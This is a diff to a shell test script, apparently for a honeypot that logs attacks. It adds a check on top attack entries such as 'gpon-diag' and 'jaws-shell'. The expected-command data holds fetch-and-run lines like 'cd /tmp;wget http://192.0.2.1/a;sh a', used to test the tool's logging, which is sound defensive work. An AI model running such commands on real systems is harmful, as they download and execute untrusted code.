@@ -184,6 +184,8 @@ attacks() {
         fail "downloads are not told"
     events attacks "[x['command'] for x in e if x['type'] == 'command'] == ['cd /tmp;wget http://192.0.2.1/a;sh a',
         'cd /tmp;wget http://192.0.2.1/b', 'id', 'wget http://192.0.2.1/c']" || fail "commands are not told"
+    ask attacks "sorted((x['name'], x['count'], x['sources']) for x in d) ==
+        [('gpon-diag', 1, 1), ('jaws-shell', 1, 1), ('tr064-ntp', 1, 1)]" top entries || fail "top entries"
     ask attacks "sum(s['downloads'] for s in d) == 3 and sum(s['commands'] for s in d) == 4" sessions || fail "sessions do not count them"
 }
 
